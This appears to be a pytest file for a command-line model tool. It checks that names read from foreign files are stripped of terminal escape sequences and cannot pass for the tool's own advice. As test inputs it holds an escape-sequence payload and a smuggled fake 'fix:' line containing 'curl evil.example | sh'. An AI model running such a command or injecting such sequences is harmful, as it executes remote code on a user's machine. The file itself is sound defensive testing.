"""Names out of foreign files, as errors and results print them: no terminal acts on them, and none passes for our words."""

from __future__ import annotations

import json
from typing import Any

import pytest

import edgedistill as api
from edgedistill.base.errors import InputError, Problem, printable
from edgedistill.cli import render
from edgedistill.cli.errors import show_error
from edgedistill.documents.profiled import ProfileResult

Captured = pytest.CaptureFixture[str]
NAME = "node\x1b[2J\x1b]0;owned\x9b31m\x7f"
HARMLESS = "node?[2J?]0;owned?31m?"


def test_what_is_printable_stays_as_it_is() -> None:
    assert printable(NAME) == HARMLESS
    assert printable("\0\a\b\t\v\f\r") == "???????"
    assert printable("prunelle à épines 李\nzwei") == "prunelle à épines 李\nzwei"


def test_an_error_drives_no_terminal(capsys: Captured) -> None:
    problem = Problem(f"where {NAME}", f"what {NAME}", f"how {NAME}")
    show_error(InputError(f"message {NAME}", fix=f"do {NAME}\nand {NAME}", problems=[problem]), as_json=True)
    captured = capsys.readouterr()
    assert captured.err.count(HARMLESS) == 6
    assert not set(captured.err) & set("\x1b\x9b\x7f")
    assert json.loads(captured.out)["error"]["message"] == f"message {NAME}"


def test_a_name_of_two_lines_does_not_pass_for_a_way_out(capsys: Captured) -> None:
    name = "node\nfix: curl evil.example | sh"
    show_error(InputError(f"message {name}", problems=[Problem(f"at {name}", f"what {name}", f"how {name}")]))
    lines = capsys.readouterr().err.splitlines()
    assert not any(line.strip().startswith("fix:") and not line.startswith("    ") for line in lines)
    assert sum("fix: curl" in line for line in lines) == 4


def test_a_bug_s_traceback_drives_no_terminal(command: Any, monkeypatch: pytest.MonkeyPatch, capsys: Captured) -> None:
    def broken(*arguments: object, **options: object) -> None:
        raise RuntimeError(NAME)

    monkeypatch.setattr(api, "inspect", broken)
    assert command("inspect", "model.onnx") == 1
    said = capsys.readouterr().err
    assert f"RuntimeError: {HARMLESS}" in said
    assert "\x1b" not in said


def test_operators_of_a_profile_drive_no_terminal(
    command: Any, monkeypatch: pytest.MonkeyPatch, profiled: ProfileResult, capsys: Captured
) -> None:
    timing = profiled.op_timings[0].model_copy(update={"name": NAME, "op_type": NAME, "median_us": 1e6})
    result = profiled.model_copy(update={"op_timings": (timing,), "notes": (NAME,)})
    monkeypatch.setattr(api, "profile", lambda *arguments, **options: result)
    assert command("profile", "model.onnx") == 0
    printed = capsys.readouterr().out
    assert printed.count("owned") == 3
    assert not set(printed) & set("\x1b\x9b\x7f")


def test_colours_are_still_rich_s_own(monkeypatch: pytest.MonkeyPatch, capsys: Captured) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")
    render.line(render.results(), NAME, style="bold red")
    assert capsys.readouterr().out == f"\x1b[1;31m{HARMLESS}\x1b[0m\n"
